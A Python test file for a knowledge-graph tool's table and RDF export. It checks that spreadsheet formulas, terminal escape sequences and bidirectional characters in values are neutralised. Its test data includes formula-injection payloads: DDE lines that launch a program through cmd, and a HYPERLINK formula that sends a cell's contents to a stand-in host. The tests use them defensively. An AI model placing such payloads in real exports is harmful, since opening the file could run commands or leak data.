"""tables: rows in each format, whole; and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pyoxigraph import (
    Literal,
    NamedNode,
    Quad,
    QueryResultsFormat,
    RdfFormat,
    Store,
    parse,
    parse_query_results,
)
from rich.cells import cell_len

import mini
from atgraph.api import KnowledgeGraph
from atgraph.ask.answer import Answer
from atgraph.ask.binding import BoundQuestion
from atgraph.errors import QueryError
from atgraph.export import results
from atgraph.export.answer_files import answer_text
from atgraph.export.rdf import FORMATS
from atgraph.export.results import print_result
from atgraph.export.tables import BOM, drawn, filled, harmless, render
from atgraph.graph.query_files import find_question
from atgraph.graph.result import Result
from atgraph.rdf.namespaces import ATGD, graph
from atgraph.rdf.serialise import sorted_lines
from atgraph.rdf.version import version_of

FORMULAS = [
    '=HYPERLINK("http://e/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\u200f=1+1",
    "\ufeff\u200e@SUM(1)",
]
HARMLESS = [
    "-",
    "a; -b",
    "-5",
    "+5",
    "-1.5e3",
    "3",
    "Ana Example",
    "a=1",
    "a\n=1",
    "'=1",
    "",
    "e-mail",
    "2019-04-08",
    " =1",
]


def written(result: Result, fmt: str) -> str:
    out = io.BytesIO()
    print_result(result, fmt, out)
    return out.getvalue().decode()


@pytest.mark.parametrize("cell", FORMULAS)
@pytest.mark.parametrize("fmt", ["csv", "excel"])
def test_a_spreadsheet_runs_nothing(cell: str, fmt: str) -> None:
    text = render(["a", cell], [[cell, "b"]], fmt)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))

    assert rows == [["a", "'" + cell], ["'" + cell, "b"]]


@pytest.mark.parametrize("cell", ["a;=1+1", 'a;"=1+1', "=1;-1+1", "a;;@SUM(1)"])
@pytest.mark.parametrize("fmt", ["csv", "excel", "tsv"])
def test_nor_where_a_semicolon_or_tab_ends_a_cell(cell: str, fmt: str) -> None:
    text = render(["a", cell], [[cell, "b"]], fmt).removeprefix(BOM)
    for end in (",", ";", "\t"):
        rows = csv.reader(io.StringIO(text, newline=""), delimiter=end)
        assert not [one for row in rows for one in row if one.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS)
def test_formats_for_programs_keep_each_value(cell: str) -> None:
    answer = made_of(cell)

    assert (
        json.loads(answer_text(answer, "json", False))["results"]["bindings"][0]["a"]["value"]
        == cell
    )
    assert answer_text(answer, "tsv", False).splitlines()[1].split("\t")[0] == harmless(
        " ".join(cell.split())
    )
    query = f"SELECT ?a WHERE {{ BIND ({Literal(cell)} AS ?a) }}"
    assert list(csv.reader(io.StringIO(written(Store().query(query), "csv"), newline="")))[1] == [
        cell
    ]


def test_excel_knows_the_letters_by_their_mark_and_csv_has_none() -> None:
    assert render(["a"], [["Zoë"]], "excel").encode().startswith(b"\xef\xbb\xbfa\r\n")
    assert render(["a"], [["Zoë"]], "csv") == "a\r\nZoë\r\n"


# What is held whole


def test_a_result_too_large_to_be_held_whole_is_refused_and_written_row_by_row(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(results, "MOST_ROWS", 2)
    monkeypatch.setattr(results, "MOST_TRIPLES", 2)
    rows, triples = (
        "SELECT ?a WHERE {{ VALUES ?a {{ {} }} }}",
        "CONSTRUCT {{ <x:s> <x:p> ?a }} WHERE {{ VALUES ?a {{ {} }} }}",
    )

    for fmt in ("table", "markdown", "excel"):
        assert "2" in written(Store().query(rows.format("1 2")), fmt)
        with pytest.raises(
            QueryError,
            match=f"more than 2 rows, too many for {fmt}; use --format tsv, csv, json or xml",
        ):
            written(Store().query(rows.format("1 2 3")), fmt)
    assert written(Store().query(rows.format("1 2 3")), "tsv") == "?a\n1\n2\n3\n"
    assert "2" in written(Store().query(triples.format("1 2")), "nt")
    with pytest.raises(QueryError, match="more than 2 triples; narrow it, or add a LIMIT"):
        written(Store().query(triples.format("1 2 3")), "nt")


@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("notes", [(), [["\x1b]0;note\x07"]]])
def test_a_value_does_not_act_on_the_terminal_of_who_reads_a_table(
    monkeypatch: pytest.MonkeyPatch, terminal: bool, notes: list[list[str]]
) -> None:
    monkeypatch.setattr("sys.stdout.isatty", lambda: terminal)
    table = render(["a"], [["red\x1b[31m\x07"]], "table", notes)

    assert not [act for act in ("\x1b[31m", "\x1b]0", "\x07") if act in table]
    assert "red\N{REPLACEMENT CHARACTER}[31m" in table
    assert render(["a"], [["red\x1b[31m\x07"]], "csv") == "a\r\nred\x1b[31m\x07\r\n"


ACTING = "a\x00\x1b]0;own\x07\x7f\x9b31m\u202e\u2066\u200f\ufffe\r\t\nb é国"


@pytest.mark.parametrize("fmt", ["xml", "json", "tsv"])
def test_a_result_of_sparql_says_all_that_its_format_can_and_no_character_acts(fmt: str) -> None:
    query = f"SELECT ?a WHERE {{ BIND ({Literal(ACTING)} AS ?a) }}"
    text = written(Store().query(query), fmt)
    read = parse_query_results(text.encode(), format=getattr(QueryResultsFormat, fmt.upper()))
    sign = "\N{REPLACEMENT CHARACTER}"
    held = re.sub("[\x00\x1b\x07\ufffe]", sign, ACTING) if fmt == "xml" else ACTING

    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200f\u202e\u2066]", text)
    assert [row["a"].value for row in read] == [held]
    if fmt == "xml":
        assert ElementTree.fromstring(text).findtext(".//{*}literal") == held


@pytest.mark.parametrize("fmt", ["nt", "ttl", "jsonld"])
def test_so_does_a_graph(fmt: str) -> None:
    store = Store()
    store.add(Quad(NamedNode(f"{ATGD}a\u061cb"), NamedNode("x:p"), Literal(ACTING)))
    text = written(store.query("CONSTRUCT WHERE { ?s ?p ?o }"), fmt)
    formats = {"nt": RdfFormat.N_TRIPLES, "ttl": RdfFormat.TURTLE, "jsonld": RdfFormat.JSON_LD}

    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202e\u2066]", text)
    assert [q.object.value for q in parse(text.encode(), format=formats[fmt])] == [ACTING]


@pytest.mark.parametrize("fmt", FORMATS)
def test_so_does_a_file_of_the_graph_and_its_version_is_that_of_the_data(fmt: str) -> None:
    node = NamedNode(f"{ATGD}a\u061cb\u202e")
    quads = {Quad(node, NamedNode("x:p"), Literal(ACTING), graph("registry"))}
    raw = FORMATS[fmt](quads)
    formats = {"nq": RdfFormat.N_QUADS, "ttl": RdfFormat.TURTLE, "jsonld": RdfFormat.JSON_LD}
    read = {*parse(raw, format=formats[fmt])}

    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200f\u202e\u2066]", raw.decode())
    assert {q.triple for q in read} == {q.triple for q in quads}
    if fmt == "nq":
        assert read == quads
        assert version_of(sorted_lines(read)) == version_of(sorted_lines(quads))


def test_a_long_table_wraps_no_cell(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is as off a terminal where that fits, and else a block a row."""
    fits, wide = [["x"], ["y" * 40]], [["x"], ["y " * 100]]
    piped = render(["a"], fits, "table")
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "80")
    wrapped = render(["a"], wide, "table")
    monkeypatch.setattr("atgraph.export.tables.MOST_WRAPPED", 1)

    assert render(["a"], fits, "table") == piped
    assert (blocks := render(["a"], wide, "table")) != wrapped
    assert blocks.startswith("\na  x\n\na  y y ")
    assert max(map(len, blocks.split("\n"))) <= 80


# On a terminal

STYLE = re.compile(r"\x1b\[[0-9;]*m")
WORDS = st.lists(
    st.text(st.characters(codec="utf-8"), min_size=1, max_size=60)
    | st.from_regex("[a-zé国-]{1,60}", fullmatch=True)
    | st.sampled_from(["Trafficking", "co-presence", "http://example.org/" + "a" * 70]),
    max_size=12,
).map(" ".join)


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], list[list[str]], list[list[str]]]:
    number = draw(st.integers(1, 7))
    line = st.lists(WORDS, min_size=number, max_size=number)
    rows = draw(st.lists(line, min_size=1, max_size=4))
    notes = draw(st.just([]) | st.just([["programmes/a/source.txt:12: “Trafficking”"]] * len(rows)))
    return draw(line), rows, notes


@pytest.mark.slow
@given(table=tables(), width=st.integers(40, 200))
@example(table=(["a", "b"], [["Trafficking " * 9, "co-presence " * 9]], []), width=40)
@example(table=(["a"] * 7, [["measures"] * 7], []), width=67)
@example(table=(["a"], [["x" * 40], ["y" * 41]], []), width=40)
@example(table=(["", "0 0 0 0 00⼀ 00000000000 00000000000 0"], [["", ""]], []), width=41)
def test_a_table_breaks_no_word_that_fits_and_is_no_wider_than_the_terminal(
    table: tuple[list[str], list[list[str]], list[list[str]]], width: int
) -> None:
    columns, rows, notes = table
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COLUMNS", str(width))
        patch.setattr("sys.stdout.isatty", lambda: True)
        shown = render(columns, rows, "table", notes)
        patch.setattr("sys.stdout.isatty", lambda: False)
        whole = render(columns, rows, "table", notes).split()

    printed = [line for line in STYLE.sub("", shown).splitlines() if line.strip("─ ")]
    words = {word for line in printed for word in line.split()}
    assert words <= set(whole)
    assert words >= set(" ".join(" ".join(map(drawn, row)) for row in rows).split())
    assert [line for line in printed if cell_len(line) > width and len(line.split()) > 1] == []


def test_a_table_whose_columns_do_not_fit_has_a_block_for_each_row(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    rows = [["Trafficking in human beings, child sexual exploitation", "", "x" * 38]] * 2

    assert render(["theme", "from", "id"], rows, "table") == 2 * (
        "\ntheme  Trafficking in human beings,\n       child sexual exploitation\n"
        "id\n" + "  " + "x" * 38 + "\n"
    )


def test_a_line_is_broken_at_white_space_as_far_in_as_its_words_let_it() -> None:
    assert filled("  one two three", 9, 4) == ["  one two", "    three"]
    assert filled("  one two", 200, 4) == ["  one two"]
    assert filled("  eight-and-ten", 13, 4) == ["eight-and-ten"]
    assert filled("one eight-and-thirty", 13, 4) == ["one", "eight-and-thirty"]
    assert filled("", 40, 4) == [""]


# Answers with their evidence and citation


def made_of(*cells: str) -> Answer:
    asked = find_question("claims")
    rows = tuple({"a": Literal(cell), "statement": NamedNode("http://e/none")} for cell in cells)
    return Answer(
        BoundQuestion(asked, (), asked.query),
        ("a", "statement"),
        rows,
        KnowledgeGraph(mini.graph().store),
    )


@pytest.fixture
def answer() -> Answer:
    return KnowledgeGraph(mini.graph().store).ask("who-works-with", organization="HN")


@pytest.mark.parametrize("fmt", ["csv", "tsv", "excel"])
def test_rows_for_programs_carry_evidence_and_citation_in_columns(answer: Answer, fmt: str) -> None:
    delimiter = "\t" if fmt == "tsv" else ","
    text = answer_text(answer, fmt, True, True).removeprefix(BOM)
    rows = list(
        csv.reader(
            io.StringIO(text, newline=""),
            delimiter=delimiter,
            quoting=csv.QUOTE_NONE if fmt == "tsv" else csv.QUOTE_MINIMAL,
        )
    )

    assert rows[0] == [*answer.shown, "evidence", "citation"]
    assert {len(row) for row in rows} == {len(answer.shown) + 2}
    assert {row[-1] for row in rows[1:]} == {answer.cite()}
    assert all(f"programmes/{mini.ID}/source.txt:" in row[-2] for row in rows[1:])


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_rows_for_people_have_the_citation_under_them(answer: Answer, fmt: str) -> None:
    text = answer_text(answer, fmt, True, True)

    assert text.endswith(f"\n\n{answer.cite()}\n")
    assert text.count(answer.cite()) == 1
    assert str(answer.evidence[0][0]) in text


def test_json_carries_evidence_and_citation_as_bindings_that_any_reader_takes(
    answer: Answer,
) -> None:
    text = answer_text(answer, "json", True, True)
    solutions = parse_query_results(text.encode(), format=QueryResultsFormat.JSON)

    assert [v.value for v in solutions.variables] == [*answer.columns, "evidence", "citation"]
    assert [s["evidence"].value.split("\n") for s in solutions] == [
        list(map(str, quotes)) for quotes in answer.evidence
    ]
    assert answer_text(answer, "json", False) == answer_text(answer, "json", False, False)


def test_without_a_row_only_a_citation_and_empty_json_are_written() -> None:
    empty = made_of()

    assert [
        answer_text(empty, fmt, True) for fmt in ("table", "markdown", "csv", "tsv", "excel")
    ] == [""] * 5
    assert [answer_text(empty, fmt, True, True) for fmt in ("table", "markdown", "csv")] == [
        empty.cite() + "\n"
    ] * 2 + [""]
    assert json.loads(answer_text(empty, "json", True, True))["results"]["bindings"] == []
